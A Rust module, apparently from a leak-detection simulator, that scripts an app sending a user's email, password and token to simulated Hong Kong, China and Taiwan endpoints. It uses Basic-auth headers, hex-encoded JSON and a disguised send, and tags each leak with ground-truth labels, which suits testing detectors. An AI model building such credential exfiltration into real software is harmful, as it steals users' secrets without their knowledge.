//! Password and token go to Hong Kong and China.

use data_encoding::{BASE64, HEXLOWER};
use serde_json::json;

use super::Behaviour;
use crate::{Error, app::Outgoing, clouds::Role, stage::Stage, truth::Leak};

/// The switch.
pub(super) const THIS: Behaviour = Behaviour {
    name: "send-credentials",
    plays: "capture computer credentials",
    applies: |_| true,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: Stage) -> Result<(), Error> {
    let mut random = stage.random();
    let owner = &stage.owner;
    stage.after(stage.plan.drone_on, 40.0, &mut random).await;
    let basic = BASE64.encode(format!("{}:{}", owner.email, owner.password).as_bytes());
    let leaks = vec![
        Leak::new("credential", &owner.password, "basic-auth").within("header"),
        Leak::new("email", &owner.email, "basic-auth").within("header"),
    ];
    let outgoing = Outgoing::get("/v1/quota").header("authorization", format!("Basic {basic}"));
    stage.send(Role::UploadHk, outgoing, leaks).await?;
    let body = json!({"k": HEXLOWER.encode(owner.password.as_bytes()), "token": owner.token}).to_string();
    let leaks =
        vec![Leak::new("credential", &owner.password, "hex"), Leak::new("credential", &owner.token, "json")];
    stage.send(Role::ApiCn, Outgoing::post("/v1/vault", "application/json", body), leaks).await?;
    let values = [("credential", "password", owner.password.as_str()), ("credential", "token", &owner.token)];
    stage.send_disguised(Role::SyncTw, "/v1/s", &values, &mut random).await
}
